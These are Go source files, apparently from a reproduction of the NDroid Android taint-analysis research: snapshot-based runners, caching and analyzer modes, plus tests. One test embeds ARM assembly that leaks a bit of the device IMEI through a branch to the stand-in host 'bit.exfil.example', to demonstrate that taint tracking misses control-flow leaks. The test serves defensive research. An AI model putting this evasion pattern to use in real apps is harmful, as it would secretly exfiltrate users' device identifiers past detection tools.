	KindStatic = cas.Kind{Name: "static", Schema: "v1 static.Portable counts,findings,reach,pins,seeds"}
	// KindAsm holds arm.Program payloads keyed by hash(source, base).
	KindAsm = cas.Kind{Name: "asmlib", Schema: "v1 arm.Program base,code,labels,writemask"}
	// KindDexCheck holds dexCheckRecord payloads keyed by dex.Class digests.
	KindDexCheck = cas.Kind{Name: "dexcheck", Schema: "v1 validate fault.Portable"}
	// KindSummary holds summary.PortableLib payloads keyed by the
	// name-excluded lib code digest (LibPrint.Digest), so two apps shipping
	// the same native code share the synthesis. Only the static synthesis is
	// persisted; validation verdicts are per-run dynamic state.
	KindSummary = cas.Kind{Name: "summary", Schema: "v1 summary.PortableLib entry,rows,regs,writes,sound"}
)

// dexCheckRecord caches one class's load-time validation verdict.
type dexCheckRecord struct {
	Fault *fault.Portable `json:"fault,omitempty"` // nil: class validated clean
}

// RunnerStats counts the work a Runner has done.
type RunnerStats struct {
	Boots  int // full System boots (initial + post-corruption reboots)
	Resets int // snapshot restores served

	GuestPagesReset int // guest pages copied back across all resets
	TaintPagesReset int // shadow-taint pages reset across all resets

	StaticRuns   int // static.Analyze executions
	StaticReuses int // attempts served from the in-memory digest cache

	// JNICrossings counts live Java->native crossings observed across every
	// attempt this Runner executed. Warm service replays serve verdicts (and
	// their surface maps) without running the guest, so their shards report
	// zero here — the counter-assertion the warm-replay tests pin.
	JNICrossings uint64

	// Artifact-store traffic (all zero on an uncached Runner).
	StaticDiskHits int // static results rehydrated from the artifact store
	DexValidations int // per-class Validate executions during Fingerprint
	DexCheckHits   int // validation verdicts served from the artifact store
	AsmCacheHits   int // assembled images served from the artifact store
	AsmAssembles   int // real assembler runs
	CacheFaults    int // corrupt or injected cache loads absorbed (recomputed)

	// Auto-generated native taint summary traffic (all zero with summaries
	// off). SummarySynths counts real per-library syntheses; SummaryReuses
	// counts libraries served from the in-memory map; SummaryDiskHits counts
	// rehydrations from the artifact store.
	SummarySynths   int
	SummaryReuses   int
	SummaryDiskHits int
}

// Runner serves analysis attempts from a snapshot-restored System.
type Runner struct {
	sys  *System
	snap *Snapshot

	// bootClasses names the framework classes present at snapshot time, so
	// the app fingerprint covers exactly what an Install added.
	bootClasses map[string]bool

	// statics caches pre-analysis results by app fingerprint: a re-install of
	// identical content re-seeds pins by name instead of re-running the
	// analysis.
	statics map[string]*static.Result

	// cache is the persistent artifact store (nil on an uncached Runner).
	cache *cas.Store

	// summaries caches per-library synthesized summaries by lib digest, so
	// repeat installs of the same native code skip re-synthesis even on an
	// uncached Runner. The payloads are read-only portable forms; every
	// analyzer rehydrates its own private Transfer set.
	summaries map[string]*summary.PortableLib

	// needReboot poisons the Runner after a failed restore: the System may be
	// half-rewound, so the next attempt boots fresh.
	needReboot bool

	Stats RunnerStats
}

// NewRunner boots the warm System and captures its snapshot.
func NewRunner() (*Runner, error) { return NewCachedRunner(nil) }

// NewCachedRunner is NewRunner wired to a persistent artifact store; a nil
// store yields a plain uncached Runner.
func NewCachedRunner(store *cas.Store) (*Runner, error) {
	r := &Runner{statics: make(map[string]*static.Result), cache: store}
	if err := r.boot(); err != nil {
		return nil, err
	}
	return r, nil
}

func (r *Runner) boot() error {
	sys, err := NewSystem()
	if err != nil {
		return err
	}
	r.sys = sys
	if r.cache != nil {
		sys.VM.SetAsmCache(&runnerAsmCache{r})
	}
	r.bootClasses = make(map[string]bool)
	for _, name := range sys.VM.Classes() {
		r.bootClasses[name] = true
	}
	r.snap = sys.Snapshot()
	r.needReboot = false
	r.Stats.Boots++
	return nil
}

// System exposes the Runner's current System (tests and throughput probes).
func (r *Runner) System() *System { return r.sys }

// Cache exposes the Runner's artifact store (nil when uncached).
func (r *Runner) Cache() *cas.Store { return r.cache }

// freshInstall rewinds the System to the warm post-boot state (rebooting if a
// previous restore failed) and installs the app.
func (r *Runner) freshInstall(spec AppSpec) error {
	if r.needReboot || r.sys == nil {
		if err := r.boot(); err != nil {
			return err
		}
	} else {
		st, err := r.snap.Restore()
		if err != nil {
			r.needReboot = true
			return err
		}
		r.Stats.Resets++
		r.Stats.GuestPagesReset += st.GuestPages
		r.Stats.TaintPagesReset += st.TaintPages
	}
	return spec.Install(r.sys)
}

// analyzeOnce is the fork-server counterpart of the package-level
// analyzeOnce: restore (or reboot) instead of NewSystem, and serve static
// pins from the digest cache (in-memory, then the artifact store) when the
// installed content is unchanged.
func (r *Runner) analyzeOnce(spec AppSpec, mode Mode, opts AnalyzeOptions) (res RunResult) {
	defer func() {
		if rec := recover(); rec != nil {
			res.Fault = fault.FromPanic("core", rec)
			res.Verdict = verdictForFault(res.Fault)
		}
	}()

	if err := r.freshInstall(spec); err != nil {
		f := fault.AsFault(err, "core")
		return RunResult{Verdict: verdictForFault(f), Fault: f}
	}
	sys := r.sys

	a := NewAnalyzer(sys, mode)
	a.Budget = opts.Budget
	a.Log.Enabled = opts.FlowLog
	if opts.Fuse == FuseOff {
		sys.VM.FuseNative = false
	}
	applySurface(a, opts.Surface)
	if opts.Summaries != SummaryOff {
		a.EnableSummaries(opts.Summaries, r)
	}

	var sr *static.Result
	if opts.Static != static.Off {
		key := r.fingerprintInstalled(spec).Static
		if cached, ok := r.statics[key]; ok {
			sr = cached
			r.Stats.StaticReuses++
			if opts.Static == static.PinLevel {
				// The cached pin sets are pointer-keyed against a previous
				// install's dex tree; re-seed by name on this one.
				sr.ReApply(sys.VM)
			}
		} else if sr = r.loadStatic(key); sr != nil {
			r.statics[key] = sr
			r.Stats.StaticDiskHits++
			if opts.Static == static.PinLevel {
				sr.ReApply(sys.VM)
			}
		} else {
			sr = static.Analyze(sys.VM, spec.EntryClass, spec.EntryMethod)
			r.statics[key] = sr
			r.Stats.StaticRuns++
			if r.cache != nil {
				// Best-effort store: a failed Put costs future reuse, nothing else.
				_ = r.cache.Put(KindStatic, key, sr.Portable())
			}
			if opts.Static == static.PinLevel {
				sr.Apply(sys.VM)
			}
		}
	}

	res = a.Run(spec.EntryClass, spec.EntryMethod, nil, nil)
	r.Stats.JNICrossings += res.JNICrossings
	if sr != nil {
		res.Static = sr
		if opts.FlowLog {
			res.StaticViolations = sr.CrossValidate(res.LogLines)
		}
	}
	return res
}

// loadStatic rehydrates a static result from the artifact store; any miss —
// clean, corrupt, or injected — returns nil and the caller recomputes.
func (r *Runner) loadStatic(key string) *static.Result {
	if r.cache == nil {
		return nil
	}
	var p static.Portable
	ok, err := r.cache.Get(KindStatic, key, &p)
	if err != nil {
		r.Stats.CacheFaults++
	}
	if !ok {
		return nil
	}
	return p.Rehydrate()
}

// LibPrint fingerprints one loaded native-library image: the content digest
// covers the load base and the assembled bytes, deliberately not the library
// or app name — two apps shipping the same code share the print, which is
// what makes library-level artifacts reusable across apps.
type LibPrint struct {
	Name   string // reporting only; not part of Digest
	Base   uint32
	Digest string
}

// Fingerprint identifies what an Install added to the warm System, split by
// artifact scope: Dex covers the structural content of every non-framework
// class, each LibPrint covers one native image, Static additionally binds
// the entry point (the inputs of static.Analyze), and App is the submission
// identity the service shards and dedups by. The submission's display name
// is excluded throughout — identical content under two names is one app.
type Fingerprint struct {
	App    string
	Static string
	Dex    string
	Libs   []LibPrint
}

// fingerprintInstalled digests the currently-installed app (Install must
// already have run on the live System).
func (r *Runner) fingerprintInstalled(spec AppSpec) Fingerprint {
	vm := r.sys.VM
	dh := fnv.New64a()
	for _, name := range vm.Classes() {
		if r.bootClasses[name] {
			continue
		}
		if c, ok := vm.Class(name); ok {
			c.WriteDigest(dh)
		}
	}
	var fp Fingerprint
	fp.Dex = hex64(dh.Sum64())
	for _, lib := range vm.NativeLibs() {
		var b [4]byte
		binary.LittleEndian.PutUint32(b[:], lib.Prog.Base)
		fp.Libs = append(fp.Libs, LibPrint{
			Name: lib.Name, Base: lib.Prog.Base,
			Digest: cas.DigestBytes(b[:], lib.Prog.Code),
		})
	}
	parts := []string{spec.EntryClass, spec.EntryMethod, fp.Dex}
	for _, l := range fp.Libs {
		parts = append(parts, l.Digest)
	}
	fp.Static = cas.DigestStrings(parts...)
	fp.App = fp.Static
	return fp
}

// Fingerprint rewinds the warm System, installs the app, and returns its
// content fingerprint plus load-time dex validation diagnostics (one rendered
// fault per structurally-broken class). Validation verdicts are cached in the
// artifact store by class content digest, so a digest-identical class —
// resubmitted, or shared between apps — validates once per store lifetime.
// No analysis runs; the service's fingerprint stage uses this to route, dedup,
// and short-circuit submissions before spending any execution budget.
func (r *Runner) Fingerprint(spec AppSpec) (fp Fingerprint, diags []string, err error) {
	// Install runs arbitrary app setup; contain its panics like analyzeOnce
	// does, so a hostile submission cannot take the fingerprint stage down.
	defer func() {
		if rec := recover(); rec != nil {
			fp, diags = Fingerprint{}, nil
			err = fault.FromPanic("core", rec)
			r.needReboot = true
		}
	}()
	if err := r.freshInstall(spec); err != nil {
		return Fingerprint{}, nil, fault.AsFault(err, "core")
	}
	fp = r.fingerprintInstalled(spec)

	vm := r.sys.VM
	for _, name := range vm.Classes() {
		if r.bootClasses[name] {
			continue
		}
		c, ok := vm.Class(name)
		if !ok {
			continue
		}
		if f := r.validateClass(c); f != nil {
			diags = append(diags, f.Error())
		}
	}
	return fp, diags, nil
}

// validateClass runs (or replays) one class's structural validation.
func (r *Runner) validateClass(c *dex.Class) *fault.Fault {
	if r.cache == nil {
		r.Stats.DexValidations++
		return fault.AsFault(c.Validate(), "dex")
	}
	key := c.Digest()
	var rec dexCheckRecord
	ok, err := r.cache.Get(KindDexCheck, key, &rec)
	if err != nil {
		r.Stats.CacheFaults++
	}
	if ok {
		r.Stats.DexCheckHits++
		return rec.Fault.Fault()
	}
	r.Stats.DexValidations++
	f := fault.AsFault(c.Validate(), "dex")
	_ = r.cache.Put(KindDexCheck, key, &dexCheckRecord{Fault: f.Portable()})
	return f
}

// LoadSummaries implements SummaryCache: in-memory map first, then the
// artifact store. A corrupt or injected entry counts as an absorbed cache
// fault and reads as a miss (the analyzer re-synthesizes).
func (r *Runner) LoadSummaries(key string) (*summary.PortableLib, bool) {
	if p, ok := r.summaries[key]; ok {
		r.Stats.SummaryReuses++
		return p, true
	}
	if r.cache != nil {
		var p summary.PortableLib
		ok, err := r.cache.Get(KindSummary, key, &p)
		if err != nil {
			r.Stats.CacheFaults++
		}
		if ok {
			r.Stats.SummaryDiskHits++
			if r.summaries == nil {
				r.summaries = make(map[string]*summary.PortableLib)
			}
			r.summaries[key] = &p
			return &p, true
		}
	}
	return nil, false
}

// StoreSummaries implements SummaryCache: record a fresh synthesis in the
// in-memory map and (best-effort) the artifact store.
func (r *Runner) StoreSummaries(key string, p *summary.PortableLib) {
	r.Stats.SummarySynths++
	if r.summaries == nil {
		r.summaries = make(map[string]*summary.PortableLib)
	}
	r.summaries[key] = p
	if r.cache != nil {
		_ = r.cache.Put(KindSummary, key, p)
	}
}

// runnerAsmCache adapts the artifact store to the VM's assembly-cache hook.
// Each Load decodes a private Program copy, so nothing is aliased between
// VMs; a corrupt or injected-faulty entry counts as an absorbed cache fault
// and reads as a miss (the VM assembles and re-stores).
type runnerAsmCache struct{ r *Runner }

func asmCacheKey(source string, base uint32) string {
	var b [4]byte
	binary.LittleEndian.PutUint32(b[:], base)
	return cas.DigestBytes([]byte(source), b[:])
}

func (a *runnerAsmCache) Load(source string, base uint32) (*arm.Program, bool) {
	var p arm.Program
	ok, err := a.r.cache.Get(KindAsm, asmCacheKey(source, base), &p)
	if err != nil {
		a.r.Stats.CacheFaults++
	}
	if !ok {
		return nil, false
	}
	a.r.Stats.AsmCacheHits++
	return &p, true
}

func (a *runnerAsmCache) Store(source string, base uint32, prog *arm.Program) {
	// Store always follows a real assembler run on the cached path.
	a.r.Stats.AsmAssembles++
	_ = a.r.cache.Put(KindAsm, asmCacheKey(source, base), prog)
}

func hex64(sum uint64) string {
	const hexDigits = "0123456789abcdef"
	var out [16]byte
	for i := 0; i < 16; i++ {
		out[15-i] = hexDigits[sum&0xf]
		sum >>= 4
	}
	return string(out[:])
}
