package core

// Runner is the fork server: it boots one warm System, captures a
// core.Snapshot of the post-framework-init state, and then serves every
// analysis attempt from a copy-on-write clone — Restore rewinds only the
// pages and scalars the previous attempt dirtied, so per-app isolation costs
// O(dirty pages) instead of O(world).
//
// The degradation ladder's semantics are unchanged: every attempt still
// starts from exactly the post-boot state a fresh NewSystem would provide
// (the snapshot-parity suite holds the two byte-identical), and a restore
// that fails — organically or via the core.snapshot.restore injection site —
// poisons the Runner so the ladder's InternalError retry really does get a
// freshly booted System.

import (
	"encoding/binary"
	"hash/fnv"
	"io"

	"repro/internal/fault"
	"repro/internal/static"
)

// RunnerStats counts the work a Runner has done.
type RunnerStats struct {
	Boots  int // full System boots (initial + post-corruption reboots)
	Resets int // snapshot restores served

	GuestPagesReset int // guest pages copied back across all resets
	TaintPagesReset int // shadow-taint pages reset across all resets

	StaticRuns   int // static.Analyze executions
	StaticReuses int // attempts served from the digest-keyed pin cache
}

// Runner serves analysis attempts from a snapshot-restored System.
type Runner struct {
	sys  *System
	snap *Snapshot

	// bootClasses names the framework classes present at snapshot time, so
	// the dex digest covers exactly what an Install added.
	bootClasses map[string]bool

	// statics caches pre-analysis results by app dex digest: a re-install of
	// identical dex re-seeds pins by name instead of re-running the analysis.
	statics map[string]*static.Result

	// needReboot poisons the Runner after a failed restore: the System may be
	// half-rewound, so the next attempt boots fresh.
	needReboot bool

	Stats RunnerStats
}

// NewRunner boots the warm System and captures its snapshot.
func NewRunner() (*Runner, error) {
	r := &Runner{statics: make(map[string]*static.Result)}
	if err := r.boot(); err != nil {
		return nil, err
	}
	return r, nil
}

func (r *Runner) boot() error {
	sys, err := NewSystem()
	if err != nil {
		return err
	}
	r.sys = sys
	r.bootClasses = make(map[string]bool)
	for _, name := range sys.VM.Classes() {
		r.bootClasses[name] = true
	}
	r.snap = sys.Snapshot()
	r.needReboot = false
	r.Stats.Boots++
	return nil
}

// System exposes the Runner's current System (tests and throughput probes).
func (r *Runner) System() *System { return r.sys }

// analyzeOnce is the fork-server counterpart of the package-level
// analyzeOnce: restore (or reboot) instead of NewSystem, and serve static
// pins from the digest cache when the installed dex is unchanged.
func (r *Runner) analyzeOnce(spec AppSpec, mode Mode, opts AnalyzeOptions) (res RunResult) {
	defer func() {
		if rec := recover(); rec != nil {
			res.Fault = fault.FromPanic("core", rec)
			res.Verdict = verdictForFault(res.Fault)
		}
	}()

	if r.needReboot || r.sys == nil {
		if err := r.boot(); err != nil {
			f := fault.AsFault(err, "core")
			return RunResult{Verdict: verdictForFault(f), Fault: f}
		}
	} else {
		st, err := r.snap.Restore()
		if err != nil {
			r.needReboot = true
			f := fault.AsFault(err, "core")
			return RunResult{Verdict: verdictForFault(f), Fault: f}
		}
		r.Stats.Resets++
		r.Stats.GuestPagesReset += st.GuestPages
		r.Stats.TaintPagesReset += st.TaintPages
	}
	sys := r.sys

	if err := spec.Install(sys); err != nil {
		f := fault.AsFault(err, "core")
		return RunResult{Verdict: verdictForFault(f), Fault: f}
	}
	a := NewAnalyzer(sys, mode)
	a.Budget = opts.Budget
	a.Log.Enabled = opts.FlowLog
	if opts.Fuse == FuseOff {
		sys.VM.FuseNative = false
	}

	var sr *static.Result
	if opts.Static != static.Off {
		key := r.digest(spec)
		if cached, ok := r.statics[key]; ok {
			sr = cached
			r.Stats.StaticReuses++
			if opts.Static == static.PinLevel {
				// The cached pin sets are pointer-keyed against a previous
				// install's dex tree; re-seed by name on this one.
				sr.ReApply(sys.VM)
			}
		} else {
			sr = static.Analyze(sys.VM, spec.EntryClass, spec.EntryMethod)
			r.statics[key] = sr
			r.Stats.StaticRuns++
			if opts.Static == static.PinLevel {
				sr.Apply(sys.VM)
			}
		}
	}

	res = a.Run(spec.EntryClass, spec.EntryMethod, nil, nil)
	if sr != nil {
		res.Static = sr
		if opts.FlowLog {
			res.StaticViolations = sr.CrossValidate(res.LogLines)
		}
	}
	return res
}

// digest fingerprints what Install added to the warm System: every
// non-framework class (structure and bytecode) plus the loaded native-code
// images, keyed alongside the spec's identity and entry point. Identical
// digests mean static.Analyze would recompute an identical Result.
func (r *Runner) digest(spec AppSpec) string {
	h := fnv.New64a()
	ws := func(s string) { io.WriteString(h, s); h.Write([]byte{0}) }
	var buf [8]byte
	wi := func(v int64) {
		binary.LittleEndian.PutUint64(buf[:], uint64(v))
		h.Write(buf[:])
	}

	ws(spec.Name)
	ws(spec.EntryClass)
	ws(spec.EntryMethod)

	vm := r.sys.VM
	for _, name := range vm.Classes() {
		if r.bootClasses[name] {
			continue
		}
		c, ok := vm.Class(name)
		if !ok {
			continue
		}
		ws(c.Name)
		ws(c.Super)
		for _, f := range c.InstanceFields {
			ws(f.Name)
			wi(int64(f.Index))
		}
		for _, f := range c.StaticFields {
			ws(f.Name)
			wi(int64(f.Index))
		}
		for _, m := range c.Methods {
			ws(m.Name)
			ws(m.Shorty)
			wi(int64(m.Flags))
			wi(int64(m.NumRegs))
			wi(int64(m.NativeAddr))
			for i := range m.Insns {
				in := &m.Insns[i]
				wi(int64(in.Op))
				wi(int64(in.A))
				wi(int64(in.B))
				wi(int64(in.C))
				wi(in.Lit)
				ws(in.Str)
				wi(int64(in.Cmp))
				wi(int64(in.Ar))
				wi(int64(in.Tgt))
				for _, a := range in.Args {
					wi(int64(a))
				}
				ws(in.ClassName)
				ws(in.MemberName)
				ws(in.Shorty)
			}
			for _, t := range m.Tries {
				wi(int64(t.Start))
				wi(int64(t.End))
				wi(int64(t.Handler))
				ws(t.Type)
			}
		}
	}
	for _, lib := range vm.NativeLibs() {
		ws(lib.Name)
		wi(int64(lib.Prog.Base))
		h.Write(lib.Prog.Code)
	}
	var out [16]byte
	const hex = "0123456789abcdef"
	sum := h.Sum64()
	for i := 0; i < 16; i++ {
		out[15-i] = hex[sum&0xf]
		sum >>= 4
	}
	return string(out[:])
}
