package core_test

import (
	"testing"

	"repro/internal/core"
	"repro/internal/dex"
	"repro/internal/taint"
)

// TestControlFlowEvasionIsMissed reproduces the §VII limitation: "Similar to
// TaintDroid and Droidscope, NDroid does not track control flows. Therefore,
// it could be evaded by apps that use the same control flow based
// techniques." The native code below leaks the low bit of the IMEI's last
// digit purely through a branch — the transmitted byte is a constant, so no
// taint ever reaches the sink. NDroid (correctly, per its design) reports
// nothing, while the ground truth shows data derived from the secret left
// the device.
func TestControlFlowEvasionIsMissed(t *testing.T) {
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	prog, err := sys.VM.LoadNativeLib("libevade.so", `
; void leakBit(JNIEnv*, jclass, jstring imei)
Java_leakBit:
	PUSH {R4, R5, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0          ; tainted C chars
	; c = last digit's low bit
	BL strlen
	SUB R0, R0, #1
	LDRB R1, [R5, R0]   ; tainted byte
	AND R1, R1, #1      ; still tainted
	; implicit flow: branch on the tainted value, send a CONSTANT
	CMP R1, #0
	BEQ even
	LDR R5, =msg_one    ; untainted constant "1"
	B send
even:
	LDR R5, =msg_zero   ; untainted constant "0"
send:
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, #1
	LDR R3, =host
	BL sendto
	POP {R4, R5, PC}

msg_one:
	.asciz "1"
msg_zero:
	.asciz "0"
host:
	.asciz "bit.exfil.example"
	.align 4
`)
	if err != nil {
		t.Fatal(err)
	}
	const cls = "Lcom/evade/Main;"
	cb := dex.NewClass(cls)
	cb.NativeMethod("leakBit", "VL", dex.AccStatic, 0)
	cb.Method("run", "V", dex.AccStatic, 1).
		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
		MoveResult(0).
		InvokeStatic(cls, "leakBit", "VL", 0).
		ReturnVoid().
		Done()
	sys.VM.RegisterClass(cb.Build())
	if err := sys.VM.BindNative(cls, "leakBit", prog, "Java_leakBit"); err != nil {
		t.Fatal(err)
	}

	a := core.NewAnalyzer(sys, core.ModeNDroid)
	if _, _, _, err := sys.VM.InvokeByName(cls, "run", nil, nil); err != nil {
		t.Fatal(err)
	}

	// Ground truth: a secret-derived bit left the device...
	sent := sys.Kern.Net.SentTo("bit.exfil.example")
	if len(sent) != 1 || string(sent[0]) != "1" { // IMEI ends in "1" (odd)
		t.Fatalf("ground truth wrong: %q", sent)
	}
	// ...but explicit-flow tracking cannot see it (the documented negative).
	if len(a.Leaks) != 0 {
		t.Errorf("NDroid reported %v for a pure control-flow leak; explicit tracking should miss it", a.Leaks)
	}
}

// TestOvertaintViaPointerArithmetic documents the flip side of Table V's
// LDR rule: a load through a tainted pointer taints the result even when the
// loaded data is public — the deliberate over-approximation the paper adopts
// ("if the tainted input is the address of an untainted value, the taint
// will be propagated to it").
func TestOvertaintViaPointerArithmetic(t *testing.T) {
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	prog, err := sys.VM.LoadNativeLib("libtable.so", `
; int lookup(JNIEnv*, jclass, int idx) — table[idx & 3], table is public
Java_lookup:
	AND R2, R2, #3
	LSL R2, R2, #2
	LDR R3, =table
	LDR R0, [R3, R2]
	BX LR
table:
	.word 10, 20, 30, 40
`)
	if err != nil {
		t.Fatal(err)
	}
	const cls = "Lcom/table/Main;"
	cb := dex.NewClass(cls)
	cb.NativeMethod("lookup", "II", dex.AccStatic, 0)
	vm := sys.VM
	vm.RegisterClass(cb.Build())
	if err := vm.BindNative(cls, "lookup", prog, "Java_lookup"); err != nil {
		t.Fatal(err)
	}
	core.NewAnalyzer(sys, core.ModeNDroid)

	ret, rt, _, err := vm.InvokeByName(cls, "lookup", []uint32{2}, []taint.Tag{taint.IMEI})
	if err != nil {
		t.Fatal(err)
	}
	if ret != 30 {
		t.Fatalf("lookup = %d", ret)
	}
	if !rt.Has(taint.IMEI) {
		t.Error("index-derived load should carry the index taint (Table V LDR rule)")
	}
}
