package core

import (
	"fmt"
	"strings"

	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/dvm"
	"repro/internal/summary"
	"repro/internal/surface"
	"repro/internal/taint"
)

// Mode selects which analysis stack runs on top of the emulated system.
type Mode int

// Analysis modes.
const (
	// ModeVanilla runs the app with no taint tracking (stock Android).
	ModeVanilla Mode = iota + 1
	// ModeTaintDroid enables only TaintDroid's in-DVM tracking with the
	// naive JNI return policy — the paper's baseline, which misses the
	// Table I cases 1', 2, 3, and 4.
	ModeTaintDroid
	// ModeNDroid enables TaintDroid plus all five NDroid engines.
	ModeNDroid
	// ModeDroidScope approximates the DroidScope baseline: whole-system
	// instruction tracing with no JNI-semantic shortcuts and VMI-style
	// per-instruction semantic reconstruction on the Java side.
	ModeDroidScope
)

var modeNames = map[Mode]string{
	ModeVanilla:    "vanilla",
	ModeTaintDroid: "taintdroid",
	ModeNDroid:     "ndroid",
	ModeDroidScope: "droidscope",
}

// String names the mode.
func (m Mode) String() string {
	if s, ok := modeNames[m]; ok {
		return s
	}
	return fmt.Sprintf("Mode(%d)", int(m))
}

// ModeFromName resolves a mode by its String name. Persistent artifacts
// (service verdict records) store mode names rather than raw ints so a
// renumbering invalidates cleanly instead of silently remapping.
func ModeFromName(name string) (Mode, bool) {
	for m, n := range modeNames {
		if n == name {
			return m, true
		}
	}
	return 0, false
}

// Leak is one detected information leak: tainted data reaching a sink.
type Leak struct {
	Sink    string // function name: "sendto", "fprintf", "Network.send", ...
	Dest    string // host, file path, or descriptor description
	Tag     taint.Tag
	Data    []byte
	Context string // where the sink fired: "java" or "native"
}

// String renders a one-line description.
func (l Leak) String() string {
	data := string(l.Data)
	if len(data) > 60 {
		data = data[:57] + "..."
	}
	return fmt.Sprintf("[%s] %s -> %s %v %q", l.Context, l.Sink, l.Dest, l.Tag, data)
}

// FlowLog accumulates the human-readable trace shown in the paper's Figs 6-9.
type FlowLog struct {
	Enabled bool
	Lines   []string
}

// Addf appends a formatted line when logging is enabled.
func (fl *FlowLog) Addf(format string, args ...interface{}) {
	if !fl.Enabled {
		return
	}
	fl.Lines = append(fl.Lines, fmt.Sprintf(format, args...))
}

// Add appends a preformatted line when logging is enabled. Fused JNI chains
// precompute their invariant log lines at bind time and emit them through
// here, bypassing Sprintf on the hot path.
func (fl *FlowLog) Add(line string) {
	if !fl.Enabled {
		return
	}
	fl.Lines = append(fl.Lines, line)
}

// String joins the log.
func (fl *FlowLog) String() string { return strings.Join(fl.Lines, "\n") }

// Contains reports whether any line contains the substring.
func (fl *FlowLog) Contains(sub string) bool {
	for _, l := range fl.Lines {
		if strings.Contains(l, sub) {
			return true
		}
	}
	return false
}

// Analyzer drives one app execution under a chosen analysis mode. It owns the
// NDroid engines and collects leaks and the flow log.
type Analyzer struct {
	Sys  *System
	Mode Mode

	Engine   *TaintEngine
	Policies *PolicyMap
	Tracer   *Tracer
	ML       *Multilevel
	Recon    *Reconstructor

	// Live is the process-wide taint-presence aggregate behind the
	// demand-driven fast path; nil when the gate is disabled.
	Live *taint.Liveness

	// Budget caps guest work per Run: it bounds both the Java instruction
	// count and each JNI call's native instruction count. 0 means
	// DefaultBudget. Exhaustion surfaces as a BudgetExceeded fault, which Run
	// classifies as VerdictTimeout.
	Budget uint64

	Leaks []Leak
	Log   FlowLog

	// Surface is the JNI surface observer (nil when disabled via
	// AnalyzeOptions.Surface = SurfaceOff). It records discovered natives,
	// registration events, reflection dispatches, and throttled call counts;
	// its Map lands in RunResult.Surface. It never writes the flow log, so
	// enabling or disabling it cannot perturb flow-log parity.
	Surface *surface.Observer

	// PinsVoided / PinPagesVoided count static clean-pins (methods / native
	// pages) dropped because a dynamic RegisterNatives swap invalidated the
	// binding the pre-analysis proved them against.
	PinsVoided     int
	PinPagesVoided int

	// Auto-generated native taint summaries (summaries.go). SummariesVoided
	// counts cached per-function summary states dropped by RegisterNatives
	// churn or code writes; SummaryApplied counts crossings served by an
	// accepted transfer instead of tracing; SummaryRejections records
	// transfers demoted by mutation validation.
	SummariesVoided   int
	SummaryApplied    uint64
	SummaryRejections []summary.Rejection
	sumMode           SummaryMode
	sumCache          SummaryCache
	sumInit           bool
	sumChurned        bool
	sumByEntry        map[uint32]*sumFunc
	sumLibs           []*sumLib
	sumStack          []sumPending

	// InstrumentationCalls counts DVM-hook instrumentation bodies that
	// actually ran (the quantity multilevel hooking reduces).
	InstrumentationCalls uint64

	// entryBound memoizes native entry addresses whose SourcePolicy hook is
	// already installed, for the fused JNI path: re-hooking an address
	// invalidates its page's translated blocks, so the bound entry closure
	// installs each hook once per analyzer instead of once per crossing.
	entryBound map[uint32]bool

	// javaVMIWalks counts DroidScope-mode per-instruction reconstructions.
	javaVMIWalks uint64
}

// SiteFusedDeopt re-exports the fused-chain deopt injection site.
const SiteFusedDeopt = dvm.SiteFusedDeopt

// NewAnalyzer attaches an analysis mode to a system, with the zero-taint
// fast path (gate) enabled. Call after the app's classes and native
// libraries are loaded (hook placement consults the OS-level view
// reconstructor for module ranges).
func NewAnalyzer(sys *System, mode Mode) *Analyzer {
	return newAnalyzer(sys, mode, true)
}

// NewAnalyzerNoGate builds the same stack always-instrumented (the PR 1
// configuration), kept for A/B soundness tests and the ablation bench.
func NewAnalyzerNoGate(sys *System, mode Mode) *Analyzer {
	return newAnalyzer(sys, mode, false)
}

func newAnalyzer(sys *System, mode Mode, gate bool) *Analyzer {
	// Bind to the System's shadow-taint map when it has one (snapshot restore
	// rewinds that map); hand-built Systems in tests fall back to a fresh map.
	engine := NewTaintEngine(sys.CPU)
	if sys.Taint != nil {
		engine = NewTaintEngineOn(sys.CPU, sys.Taint)
	}
	a := &Analyzer{
		Sys:      sys,
		Mode:     mode,
		Engine:   engine,
		Policies: NewPolicyMap(),
		Recon:    &Reconstructor{Mem: sys.Mem, InitTaskAddr: sys.Kern.InitTaskAddr},
	}
	// Re-registration of an already-bound native method is an observable
	// event in every mode: it invalidates fused chains and translated code,
	// and the log line keys the static cross-validator's relaxation.
	sys.VM.OnRegisterNatives = func(m *dex.Method, old, new uint32) {
		a.Log.Addf("RegisterNatives %s 0x%x -> 0x%x", m.FullName(), old, new)
		// The swap voids every clean-pin the static pass derived from the
		// previous binding: pinned methods and pages fall back to the dynamic
		// gates (a dropped pin costs speed, never a missed flow). The
		// diagnostic line is deliberately independent of whether any pins
		// existed, so flow logs stay byte-identical across static levels;
		// the counts are reported through RunResult instead.
		a.PinsVoided += sys.VM.UnpinClean()
		a.PinPagesVoided += sys.CPU.UnpinPages()
		a.Log.Addf("StaticPinVoid %s: clean pins from the pre-swap binding voided", m.FullName())
		// The swap equally voids every auto-generated taint summary: a cached
		// transfer describes the pre-swap implementation. Counter only — no
		// log line, so flow logs stay byte-identical across summary modes.
		a.voidSummaries()
	}
	// The JNI surface observer runs in every mode (vanilla included): the
	// surface map is part of the verdict record, so it must not depend on the
	// analysis stack. Bindings that happened at install time — before this
	// analyzer existed — are seeded in deterministic class order; everything
	// later arrives through the VM/CPU observation hooks. None of these
	// callbacks touch the flow log.
	a.Surface = surface.NewObserver()
	a.seedSurface()
	sys.VM.OnJNICall = func(m *dex.Method) { a.Surface.Call(m.FullName()) }
	sys.VM.OnNativeBind = func(m *dex.Method, old, new uint32, dynamic bool) {
		a.Surface.Register(m.FullName(), dynamic, old, new)
	}
	sys.VM.OnReflectCall = func(m *dex.Method) { a.Surface.Reflect(m.FullName()) }
	a.wireCodeWrite()
	if gate {
		// Hot Dalvik→JNI→ARM crossing chains compile to fused closures; the
		// ablation path (AnalyzeOptions.Fuse = FuseOff) switches this back
		// off. The ungated variant stays the frozen PR 1 configuration the
		// Fig. 10 shape assertions measure, so it never fuses.
		sys.VM.FuseNative = true
		a.Live = taint.NewLiveness()
		a.Engine.AttachLiveness(a.Live)
		sys.VM.AttachLiveness(a.Live)
		sys.VM.GateJava = true
		sys.CPU.AttachLiveness(a.Live)
